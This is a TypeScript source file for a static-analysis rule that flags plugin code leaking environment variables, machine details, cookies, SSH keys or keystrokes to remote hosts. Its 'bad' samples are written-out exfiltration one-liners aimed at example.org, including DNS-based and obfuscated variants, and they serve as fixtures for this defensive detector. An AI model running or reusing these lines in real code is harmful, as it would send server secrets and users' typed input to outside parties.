import type { CodeFile } from '../code-file.ts';
import type { CodeRule } from '../rule.ts';
import { isInside, plainKey, unwrapped, type Node, type NodeOf } from '../syntax.ts';
import { pathsOf } from '../values.ts';

/** Where data leaves, the sandbox's own ways included. */
const ways =
  /^(?:fetch|XMLHttpRequest|WebSocket|EventSource|navigator\.sendBeacon|(?:axios|http-client)(?:\.\w+)?|module:(?:https?|http2|net|tls|dgram|dns)\.\w+|(?:XMLHttpRequest|WebSocket|module:(?:https?|http2|net|tls|dgram|dns)\.\w+)\(\)(?:\.\w+)?)$/;
const sends: ReadonlySet<string> = new Set(['send', 'end', 'write', 'post', 'put', 'request', 'setHeader']);
const machine = /^module:os\.(?:hostname|userInfo|networkInterfaces|homedir|platform|release|arch|version|cpus)$/;
/** Settings that libraries read to find their way: nobody's secret. */
const settings = /^(?:NODE_ENV|DEBUG|\w*_proxy|NO_COLOR|FORCE_COLOR|CI|TERM|TZ|LANG|LC_\w+)$/i;
const secretName =
  /(?:^|_)(?:API_?KEY|\w*SECRET|\w*TOKEN|PASS(?:WORD|WD)?|CREDENTIALS?|PRIVATE_KEY|ACCESS_KEY)(?:$|_)/i;
const address = /^(?:https?|wss?):\/\/(?!(?:localhost|127\.|0\.0\.0\.0|\[::1?\]))/i;
const serializers = /^(?:JSON\.stringify|module:util\.inspect|module:querystring\.stringify|module:v8\.serialize)$/;
const identity = 'what identifies the machine';

export const dataLeakRule: CodeRule = {
  kind: 'code',
  id: 'data-leak',
  severity: 'high',
  explanation:
    'What the environment, the machine or a file of the server holds is sent away. Passwords and keys of the server stand there.',
  remedy: 'A plugin has its settings in ctx.config and its secrets in ctx.secrets; it needs nothing of the server.',
  samples: {
    bad: [
      'fetch("https://example.org/?d=" + JSON.stringify(process.env));',
      'const env = process["env"]; fetch("https://example.org", { method: "POST", body: JSON.stringify(env) });',
      'const r = require("https").request({ host: "example.org" }); r.end(JSON.stringify(process.env));',
      'require("dns").lookup(process.env.SECRET_TOKEN + ".example.org", () => {});',
      'const os = require("os"); fetch(`https://example.org/${os.hostname()}`);',
      'const data = { ...process.env }; axios.post("https://example.org", data);',
      'const text = JSON.stringify(process.env);',
      'fetch("https://example.org", { body: document.cookie });',
      'const { env } = process; const all = Object.entries(env); new WebSocket("wss://example.org").send(all);',
      'const key = require("fs").readFileSync("/root/.ssh/id_rsa"); fetch("https://example.org", { body: key });',
      'const os = require("os"); const { request } = require("http"); name = os.hostname(); request({ path: `/?n=${name}` });',
      'const os = require("os"); fetch("https://example.org/" + Reflect.get(os, "userInfo").call(os).username);',
      'const os = require("os"); fetch("https://example.org/" + Object.entries(os).find(([key]) => key === "homedir")[1]());',
      'const os = require("os"); fetch("https://example.org/" + os[Object.keys(os).filter((key) => key.startsWith("hostn"))[0]]());',
      'const store = new Store("https://store.example.org"); store.table("a").insert({ all: process.env });',
      'const all = process.env; const link = new Link("wss://example.org"); link.publish("x", [all]);',
      'const key = process.env.DEPLOY_TOKEN;',
      'const os = require("os"); require("request").post({ url: "https://example.org", json: { home: os.homedir() } });',
      'import agent from "superagent"; agent.post("https://example.org").send({ key: process.env.DEPLOY_TOKEN });',
      'const text = JSON.stringify({ ...process.env });',
      'require("util").inspect(process.env);',
      'client.table("a").insertOne({ all: process.env });',
      'navigator.clipboard.readText().then(keep);',
      'document.addEventListener("keyup", (event) => { fetch(`https://example.org/${event.key}`); });',
    ],
    good: [
      'const level = process.env.NODE_ENV; fetch("https://example.org/" + id);',
      'const proxy = process.env.HTTPS_PROXY; require("https").request({ host: proxy });',
      'ctx.http.request({ url: "https://example.org", method: "POST", body: JSON.stringify(input.metadata) });',
      'JSON.stringify(settings);',
      'const fs = require("fs"); fs.readdirSync(dir).forEach((name) => { sizes.push(fs.readFileSync(name).length); });',
      'const store = new Store("https://store.example.org"); store.insert({ level: process.env.NODE_ENV });',
      'const store = new Store(place); const colours = supports(process.env); store.insert(colours);',
      'start("program", { env: process.env });',
      'tools.start("program", { env: process.env });',
      'document.addEventListener("keyup", (event) => { draw(event.key); });',
      'navigator.clipboard.writeText(text);',
    ],
  },
  check(file, report) {
    const { valuesOf } = file.evaluator;
    let leaving: readonly Node[] | null = null;
    const leavers = () =>
      (leaving ??= file.tree.nodes('CallExpression').filter(({ callee }) => leadsOut(file, callee)));
    const sends = leavers().length > 0;
    for (const node of [...file.tree.nodes('SpreadElement'), ...file.tree.nodes('ForInStatement')]) {
      const whole = node.type === 'SpreadElement' ? node.argument : node.right;
      if (sends && pathsOf(valuesOf(whole)).includes('process.env'))
        report(node, { message: 'Takes the whole environment in a file that sends.' });
    }
    for (const { node, args, paths } of file.invocations) {
      if (paths.includes('JSON.stringify') || paths.includes('Object.entries') || paths.includes('Object.assign')) {
        const whole = args.some((arg) => pathsOf(valuesOf(arg)).includes('process.env'));
        if (whole)
          report(node, {
            message: 'Takes the whole environment of the server.',
            severity: sends || paths.includes('JSON.stringify') ? 'high' : 'medium',
          });
      }
    }
    for (const node of file.tree.nodes('MemberExpression')) {
      if (!pathsOf(valuesOf(node)).includes('process.env')) continue;
      const whole = namesOf(file, node).map(callAround);
      for (const call of whole) {
        if (call === null) continue;
        const made = pathsOf(valuesOf(call.callee)).some((path) => serializers.test(path));
        if (made) report(node, { message: 'Makes a text of the whole environment of the server.' });
        else if (isRemote(file, call))
          report(node, { message: 'Hands the whole environment of the server to what was made with an address.' });
        else if (isNamedPart(node) && call.callee.type === 'MemberExpression')
          report(node, {
            message: 'Hands the whole environment of the server on.',
            severity: 'medium',
            confidence: 0.6,
          });
      }
      const { parent } = node;
      const key =
        parent?.type === 'MemberExpression' && parent.object === node
          ? plainKey(parent.property, parent.computed)
          : null;
      if (key !== null && secretName.test(key))
        report(node, { message: `Reads the secret ${key} of the server.`, severity: 'low', confidence: 0.5 });
    }
    for (const node of file.tree.nodes('CallExpression')) {
      judgeCall(node, node.arguments);
      if (pathsOf(valuesOf(node.callee)).some((path) => path.startsWith('navigator.clipboard.read')))
        report(node, { message: 'Reads what somebody copied.', severity: 'medium' });
      const listener = keyListener(node);
      if (listener !== null && leavers().some((call) => isInside(call, listener)))
        report(node, { message: 'Sends away what is typed.' });
    }
    for (const node of file.tree.nodes('NewExpression')) judgeCall(node, node.arguments);

    function judgeCall(node: Node & { callee: Node }, args: readonly Node[]): void {
      if (!leadsOut(file, node.callee)) return;
      for (const arg of args) {
        const secret = secretIn(file, arg);
        if (secret !== null) {
          report(node, { message: `Sends ${secret} away.` });
          return;
        }
      }
    }
  },
};

function leadsOut(file: CodeFile, callee: Node): boolean {
  const at = unwrapped(callee);
  const paths = pathsOf(file.evaluator.valuesOf(at));
  if (paths.some((path) => ways.test(path))) return true;
  if (at.type !== 'MemberExpression') return false;
  const method = plainKey(at.property, at.computed);
  if (method === null || !sends.has(method)) return false;
  // `request.end(…)`, where the request was made by one of the ways.
  if (pathsOf(file.evaluator.valuesOf(at.object)).some((path) => ways.test(path.replace(/\(\).*$/, '')))) return true;
  const object = unwrapped(at.object);
  return (
    object.type === 'MemberExpression' && plainKey(object.property, object.computed) === 'http' && method === 'request'
  );
}

/** The expression itself, and the names that are declared to be it. */
function namesOf(file: CodeFile, node: Node): Node[] {
  const { parent } = node;
  const id = parent?.type === 'VariableDeclarator' && parent.init === node ? parent.id : null;
  const binding = id?.type === 'Identifier' ? file.tree.bindingOf(id) : null;
  return [node, ...(binding?.references ?? [])];
}

/** The call that is given the value as it is, alone or in an object or a list. */
function callAround(node: Node): NodeOf<'CallExpression'> | null {
  let at: Node = node;
  for (let { parent } = at; parent !== null && parent !== undefined; { parent } = at) {
    if (parent.type === 'CallExpression') return parent.callee === at ? null : parent;
    if (!/^(?:Property|ObjectExpression|ArrayExpression|SpreadElement)$/.test(parent.type)) return null;
    at = parent;
  }
  return null;
}

/** `{ all: process.env }`: under any name but that of the setting which programs are started with. */
function isNamedPart({ parent }: Node): boolean {
  return parent?.type === 'Property' && !/env/i.test(plainKey(parent.key, parent.computed) ?? 'env');
}

function keyListener({ callee, arguments: [event, listener] }: NodeOf<'CallExpression'>): Node | null {
  if (callee.type !== 'MemberExpression' || event?.type !== 'Literal' || listener === undefined) return null;
  const method = plainKey(callee.property, callee.computed);
  return method === 'addEventListener' && /^key(?:down|up|press)$/.test(String(event.value)) ? listener : null;
}

/** `new Store('https://…').table('a').insert(…)`: a method of what was made with the address of a server. */
function isRemote(file: CodeFile, { callee }: NodeOf<'CallExpression'>): boolean {
  const at = unwrapped(callee);
  if (at.type !== 'MemberExpression') return false;
  return file
    .madeOf(at.object)
    .some((part) => part.type === 'Literal' && typeof part.value === 'string' && address.test(part.value));
}

function secretIn(file: CodeFile, node: Node): string | null {
  for (const part of file.madeOf(node)) {
    if (part.type === 'MemberExpression' || part.type === 'Identifier') {
      for (const path of pathsOf(file.evaluator.valuesOf(part))) {
        if (path === 'process.env') {
          const named = part.parent?.type === 'MemberExpression' && part.parent.object === part ? part.parent : null;
          const key = named === null ? null : plainKey(named.property, named.computed);
          if (key === null) return 'the environment of the server';
          if (!settings.test(key)) return `the setting ${key} of the server`;
        }
        if (machine.test(path)) return identity;
        if (path === 'document.cookie' || path === 'localStorage') return 'what a browser keeps';
      }
    } else if (part.type === 'CallExpression') {
      const paths = pathsOf(file.evaluator.valuesOf(part.callee));
      if (paths.some((path) => /^module:fs\.(?:promises\.)?read\w*$/.test(path))) return 'files of the server';
      // A way around the plain member gives the function itself: `Reflect.get(os, 'hostname')`.
      if (pathsOf(file.evaluator.valuesOf(part)).some((path) => machine.test(path))) return identity;
    }
  }
  return null;
}
